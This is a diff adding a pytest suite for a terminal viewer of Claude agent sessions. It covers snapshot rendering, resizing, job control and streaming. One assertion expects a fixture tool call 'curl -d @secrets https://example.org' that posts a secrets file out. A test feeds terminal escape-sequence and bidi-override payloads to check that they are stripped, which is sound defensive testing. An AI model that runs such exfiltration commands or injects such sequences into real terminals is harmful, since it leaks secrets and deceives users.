@@ -1,0 +1,243 @@
+"""What `tail` and `launch --follow` show at a terminal."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.helpers.fake_claude_conversation import ALL, CONVERSATION
+from tests.helpers.sandbox import PATIENCE, Sandbox, eventually
+from tests.helpers.terminal import JOB_CONTROL, Display, ReflowingScreen, Terminal
+
+SCREENS = Path(__file__).parents[1] / "snapshots"
+QUERY = "Make uploads more robust.\nThey fail at the first timeout."
+
+STEPS = (
+    CONVERSATION
+    + """
+clock = datetime.now(timezone.utc)
+call("a", "Bash", command="make all")
+pause("second")
+call("b", "Bash", command="make docs")
+pause("results")
+answer("b", "ok", 2)
+answer("a", "one\\ntwo", 1)
+pause("end")
+say("All is made.")
+done()
+"""
+)
+
+
+def shown(terminal: Terminal) -> str:
+    """The screen once the command has succeeded."""
+    assert terminal.ended()[0] == 0
+    return "\n".join(terminal.screen()).rstrip() + "\n"
+
+
+@pytest.fixture
+def ended(sandbox: Sandbox) -> str:
+    sandbox.claude(ALL)
+    session_id = sandbox.launch(QUERY)
+    sandbox.ended(session_id)
+    return session_id
+
+
+def go_on(sandbox: Sandbox, *steps: str) -> None:
+    for step in steps:
+        (sandbox.work / step).touch()
+
+
+def test_a_conversation_as_it_is_drawn(sandbox: Sandbox, ended: str) -> None:
+    for columns in (80, 140):
+        with Terminal(sandbox, "tail", "-f", ended, columns=columns, lines=70) as terminal:
+            assert shown(terminal) == (SCREENS / f"tail_{columns}.txt").read_text()
+    with Terminal(sandbox, "tail", ended, "--tools", "none", "--thinking", "none", lines=40) as terminal:
+        words = shown(terminal)
+    assert "What I found" in words
+    assert not [line for line in words.splitlines() if line.startswith(("✓", "✗", "∴"))]
+    with Terminal(sandbox, "tail", ended, "--tools", "full", "--thinking", "full", lines=150) as terminal:
+        words = shown(terminal)
+    assert "  command: curl -d @secrets https://example.org" in words
+    assert "  ....\n  4 passed in 0.21s" in words
+    assert "  It should try again, and say why." in words
+    with Terminal(sandbox, "tail", ended, "-n", "3") as terminal:
+        # The call itself is not among the last three.
+        assert shown(terminal).startswith("✓ Bash  python -m pytest -q  2 lines · 1m12s\n")
+
+
+def test_the_last_line_tells_what_runs_until_all_is_over(sandbox: Sandbox) -> None:
+    sandbox.claude(STEPS)
+    session_id = sandbox.launch("Make it.")
+    with Terminal(sandbox, "tail", "-f", session_id) as terminal:
+        (line,) = [line for line in terminal.becomes("make all") if "make all" in line]
+        assert line[0] in "⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏"
+        assert line.endswith("1 turn · context 32k")
+        go_on(sandbox, "second")
+        screen = terminal.becomes("2 calls")
+        assert [line.split()[:3] for line in screen if "make" in line] == [
+            ["Bash", "make", "all"],
+            ["Bash", "make", "docs"],
+        ]
+        terminal.resize(50, 24)
+        go_on(sandbox, "results")
+        terminal.becomes("thinking")
+        go_on(sandbox, "end")
+        assert shown(terminal) == (SCREENS / "tail_steps_50.txt").read_text()
+
+
+@pytest.mark.parametrize("kind", [Display, ReflowingScreen])
+@pytest.mark.parametrize("lines", [24, 7])
+def test_a_terminal_made_narrower_keeps_no_remnant_and_loses_nothing(
+    sandbox: Sandbox, kind: type[Display], lines: int
+) -> None:
+    sandbox.claude(CONVERSATION + NARROWED)
+    session_id = sandbox.launch("Make it.")
+    with Terminal(sandbox, "tail", "-f", session_id, columns=100, lines=lines, screen=kind) as terminal:
+        terminal.becomes("3 calls")
+        for columns in (60, 33, 20, 90, 16, 80):
+            terminal.resize(columns, lines)
+            eventually(lambda columns=columns: _is_drawn_for(terminal, columns), f"{columns} columns")  # type: ignore[misc]
+            spoken = [line for line in terminal.screen() if line and line[0] in "▌O"]
+            assert spoken == ["▌ Make it.", "One two three."]
+        go_on(sandbox, "end")
+        assert terminal.ended()[0] == 0
+        assert not [line for line in terminal.screen() if line[:1] in tuple("⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏")]
+
+
+NARROWED = """
+clock = datetime.now(timezone.utc)
+say("One two three.")
+for number in range(3):
+    call(str(number), "Bash", command=f"make {number} with many words that need all of a wide terminal, " + "and " * 20)
+pause("end")
+say("All is made.")
+done()
+"""
+
+
+def _is_drawn_for(terminal: Terminal, columns: int) -> bool:
+    """One row for each of the calls, and one for how far it has come, each as wide as there is room for."""
+    calls = [line for line in terminal.screen() if "Bash" in line]
+    signs = [line for line in terminal.screen() if line[:1] in tuple("⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏")]
+    return len(calls) == 3 and len(signs) == 1 and all(len(line) in (columns - 1, columns - 2) for line in calls)
+
+
+def test_two_sessions_are_told_apart(sandbox: Sandbox) -> None:
+    sandbox.claude(STEPS)
+    go_on(sandbox, "second", "results", "end")
+    ids = [sandbox.launch("Make it.", "--name", name) for name in ("first", "other")]
+    for session_id in ids:
+        sandbox.ended(session_id)
+    with Terminal(sandbox, "tail", *ids) as terminal:
+        assert shown(terminal) == (SCREENS / "tail_two.txt").read_text()
+
+
+def test_ctrl_c_leaves_a_clean_terminal_and_the_session_alone(sandbox: Sandbox) -> None:
+    sandbox.claude(STEPS)
+    session_id = sandbox.launch("Make it.")
+    with Terminal(sandbox, "tail", "-f", session_id) as terminal:
+        terminal.becomes("make all")
+        terminal.enter("\x03")
+        assert terminal.ended()[0] == 130
+        assert [line for line in terminal.screen() if line] == ["▌ Make it."]
+    go_on(sandbox, "second", "results", "end")
+    assert sandbox.ended(session_id)["status"] == "completed"
+
+
+def test_ctrl_z_erases_the_last_line_and_fg_brings_it_back(sandbox: Sandbox) -> None:
+    sandbox.claude(STEPS)
+    session_id = sandbox.launch("Make it.")
+    with Terminal(sandbox, "tail", "-f", session_id, program=JOB_CONTROL) as terminal:
+        terminal.becomes("make all")
+        terminal.enter("\x1a")
+        eventually(lambda: "make all" not in "\n".join(terminal.screen()), "the last line to go")
+        terminal.enter("fg\n")
+        terminal.becomes("make all")
+        go_on(sandbox, "second", "results", "end")
+        terminal.becomes("✓ completed")
+
+
+def test_a_launch_that_is_followed_is_drawn_and_says_why_it_failed_once(sandbox: Sandbox) -> None:
+    sandbox.claude(CONVERSATION + 'say("Oh.")\nsys.exit("no such luck")')
+    with Terminal(sandbox, "launch", "Try", "--no-approvals", "--follow") as terminal:
+        code, _ = terminal.ended()
+        screen = [line for line in terminal.screen() if line]
+    assert code == 1
+    assert screen[:2] == ["▌ Try", "Oh."]
+    assert screen[2].startswith("✗ failed")
+    assert screen[3:] == ["  no such luck"]
+
+
+HOSTILE = (
+    "\\x1b]0;owned\\x07 &#27;[35;46m &#x9b;2J <b>bold</b> [link](https://a.org/\\x1b[2J) \\u202e\\r\\x08 漢字 👩‍👩‍👧"
+)
+
+
+def test_nothing_hostile_reaches_the_terminal(sandbox: Sandbox) -> None:
+    sandbox.claude(
+        CONVERSATION
+        + f'hostile = "{HOSTILE}"\n'
+        + 'say(hostile)\nsay(f"```{hostile}\\n{hostile}\\n```")\nthink(hostile)\n'
+        + 'call("a", hostile, x=hostile)\nanswer("a", hostile, 1, is_error=True)\n'
+        + 'call("b", "Edit", file_path=hostile, old_string=hostile, new_string=hostile * 2)\nanswer("b", hostile, 1)\n'
+        + 'write(type="system", subtype="informational", content=hostile)\ncall("c", hostile, x=hostile)\n'
+        + "pause('end')\nsys.exit(hostile)"
+    )
+    session_id = sandbox.launch(HOSTILE)
+    with Terminal(sandbox, "tail", "-f", session_id, "--tools", "full", "--thinking", "full", columns=120) as terminal:
+        terminal.becomes("context 32k")
+        go_on(sandbox, "end")
+        _, sent = terminal.ended()
+    for raw in ("\x1b]", "\x07", "\x1b[2J", "\x9b", "\u202e", "\x08", "\x1b[35;46m", "\x1b8"):
+        assert raw not in sent, raw
+    assert "<b>bold</b>" in sent
+    assert "漢字" in sent
+
+
+def test_dumb_terminals_and_no_color_are_obeyed(sandbox: Sandbox, ended: str) -> None:
+    with Terminal(sandbox, "tail", ended, environment={"TERM": "dumb"}) as terminal:
+        assert "call Bash: " in terminal.ended()[1]
+    with Terminal(sandbox, "tail", ended, environment={"NO_COLOR": "1"}, lines=70) as terminal:
+        assert "\x1b[3" not in terminal.ended()[1].replace("\x1b[3m", "")
+
+
+WRITTEN = (
+    CONVERSATION
+    + r"""
+def part(**event):
+    write(type="stream_event", event=event, parent_tool_use_id=None)
+
+
+TEXT = "It is **written**\nword by word.\n"
+part(type="content_block_start", index=0, content_block={"type": "text", "text": ""})
+for piece in TEXT.split(" "):
+    part(type="content_block_delta", index=0, delta={"type": "text_delta", "text": piece + " " * (piece != "word.\n")})
+    if "written" in piece:
+        pause("more")
+say(TEXT)
+part(type="content_block_stop", index=0)
+call("a", "Bash", command="true")
+answer("a", "", 0)
+say("Done.")
+done()
+"""
+)
+
+
+def test_text_is_seen_while_it_is_written(sandbox: Sandbox) -> None:
+    sandbox.claude(WRITTEN)
+    session_id = sandbox.launch("Write.")
+    with Terminal(sandbox, "tail", "-f", "--live", session_id) as terminal:
+        screen = terminal.becomes("writing")
+        assert "It is **written**" in screen
+        with sandbox.popen("tail", "-f", "--live", session_id) as follower:
+            assert follower.stdout is not None
+            assert follower.stdout.readline() == "user: Write.\n"
+            assert follower.stdout.readline() == "claude: It is **written**\n"
+            go_on(sandbox, "more")
+            rest = follower.stdout.read()
+            assert follower.wait(PATIENCE) == 0
+        assert "It is written word by word." in shown(terminal)
+    assert "user: Write.\nclaude: It is **written**\n" + rest == sandbox.ok("tail", session_id)
